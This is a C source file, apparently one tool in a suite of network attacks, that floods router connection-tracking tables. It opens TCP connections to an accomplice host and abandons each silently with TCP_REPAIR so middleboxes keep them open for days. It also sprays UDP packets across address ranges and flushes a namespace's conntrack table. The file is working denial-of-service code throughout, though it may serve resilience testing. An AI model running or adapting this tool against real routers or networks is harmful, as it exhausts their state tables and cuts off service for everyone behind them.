/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * flows.c: fills tables of a router with connections, as fast as they go.
 *
 *   flows open ADDRESS COUNT PORTS  TCP connections to so many ports of an accomplice there, which both sides then forget without a
 *                                   word: to whoever is between them they stay established for days. Says how many there were
 *   flows accept                    the accomplice, for as many, until it is killed
 *   flows scatter ADDRESS COUNT     a UDP packet to that address and each that follows, COUNT of them
 *   flows forget                    empties the table of connections of the network namespace it runs in (as its root)
 */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netfilter/nfnetlink_conntrack.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SOURCE_FIRST 2000u
#define SOURCES 60000u
#define ACCOMPLICE_FIRST 7700u
#define ACCOMPLICES 512u

static double now(void) {
        struct timespec t;

        clock_gettime(CLOCK_MONOTONIC, &t);
        return (double) t.tv_sec + (double) t.tv_nsec / 1e9;
}

static struct sockaddr_in address(const char *text, unsigned port) {
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t) port) };

        if (text && inet_pton(AF_INET, text, &a.sin_addr) != 1) {
                broken(text);
        }
        return a;
}

/* A socket under repair ends without telling the other side. */
static void forget(int fd) {
        const int on = 1;

        if (setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)) < 0) {
                broken("TCP_REPAIR");
        }
        close(fd);
}

static bool open_one(unsigned long i, const char *to_text, unsigned long ports) {
        const struct sockaddr_in from = address(NULL, SOURCE_FIRST + (unsigned) (i / ports % SOURCES));
        const struct sockaddr_in to = address(to_text, ACCOMPLICE_FIRST + (unsigned) (i % ports));
        const struct timeval limit = { .tv_usec = 50000 };
        const int on = 1;
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

        if (fd < 0) {
                broken("socket");
        }
        (void) setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
        (void) setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof(limit)); /* of connect as well */
        if (bind(fd, (const struct sockaddr *) &from, sizeof(from)) < 0 ||
            connect(fd, (const struct sockaddr *) &to, sizeof(to)) < 0) {
                close(fd);
                return false;
        }
        forget(fd);
        return true;
}

/* Gives up when twenty in a row did not get through: then the way is closed. */
static int do_open(const char *to, unsigned long count, unsigned long ports) {
        unsigned long opened = 0, failed = 0;
        double begun = now();

        if (ports == 0 || ports > ACCOMPLICES) {
                broken("that many ports");
        }
        for (unsigned long i = 0; i < count && failed < 20; i++) {
                bool ok = open_one(i, to, ports);

                opened += ok;
                failed = ok ? 0 : failed + 1;
        }
        say("%lu of %lu opened, %.0f a second", opened, count, (double) opened / (now() - begun));
        return opened == count ? 0 : ATTACK_STOPPED;
}

static int do_accept(void) {
        struct pollfd fds[ACCOMPLICES];
        const int on = 1;

        for (unsigned i = 0; i < ACCOMPLICES; i++) {
                const struct sockaddr_in a = address(NULL, ACCOMPLICE_FIRST + i);

                fds[i] = (struct pollfd){ .fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK,
                                                       0),
                                          .events = POLLIN };
                if (setsockopt(fds[i].fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)) < 0 ||
                    bind(fds[i].fd, (const struct sockaddr *) &a, sizeof(a)) < 0 ||
                    listen(fds[i].fd, 4096) < 0) {
                        broken("listen");
                }
        }
        say("ready");
        while (poll(fds, ACCOMPLICES, -1) > 0) {
                for (unsigned i = 0; i < ACCOMPLICES; i++) {
                        int fd = fds[i].revents ? accept4(fds[i].fd, NULL, NULL, SOCK_CLOEXEC) : -1;

                        if (fd >= 0) {
                                forget(fd);
                        }
                }
        }
        return ATTACK_BROKEN;
}

static int do_scatter(const char *first, unsigned long count) {
        struct sockaddr_in to = address(first, 9);
        int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        uint32_t at = ntohl(to.sin_addr.s_addr);
        unsigned long sent = 0;

        for (unsigned long i = 0; i < count; i++) {
                to.sin_addr.s_addr = htonl(at + (uint32_t) i);
                sent += sendto(fd, "", 0, 0, (const struct sockaddr *) &to, sizeof(to)) == 0;
        }
        say("%lu of %lu sent", sent, count);
        return sent == count ? 0 : ATTACK_BROKEN;
}

static int do_forget(void) {
        struct {
                struct nlmsghdr header;
                struct nfgenmsg family;
        } m = { .header = { .nlmsg_len = sizeof(m),
                            .nlmsg_type = NFNL_SUBSYS_CTNETLINK << 8 | IPCTNL_MSG_CT_DELETE,
                            .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK } };
        struct {
                struct nlmsghdr header;
                struct nlmsgerr error;
                uint8_t rest[256];
        } answer;
        int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_NETFILTER);

        if (fd < 0 || send(fd, &m, sizeof(m), 0) < 0 || recv(fd, &answer, sizeof(answer), 0) < 0) {
                broken("netlink");
        }
        errno = -answer.error.error;
        if (errno != 0) {
                broken("forget");
        }
        return 0;
}

int main(int argc, char **argv) {
        const char *verb = argc > 1 ? argv[1] : "";

        if (argc == 5 && strcmp(verb, "open") == 0) {
                return do_open(argv[2], strtoul(argv[3], NULL, 10), strtoul(argv[4], NULL, 10));
        }
        if (argc == 2 && strcmp(verb, "accept") == 0) {
                return do_accept();
        }
        if (argc == 4 && strcmp(verb, "scatter") == 0) {
                return do_scatter(argv[2], strtoul(argv[3], NULL, 10));
        }
        if (argc == 2 && strcmp(verb, "forget") == 0) {
                return do_forget();
        }
        fprintf(stderr, "usage: flows open ADDRESS COUNT PORTS | accept | scatter ADDRESS COUNT | forget\n");
        return ATTACK_BROKEN;
}
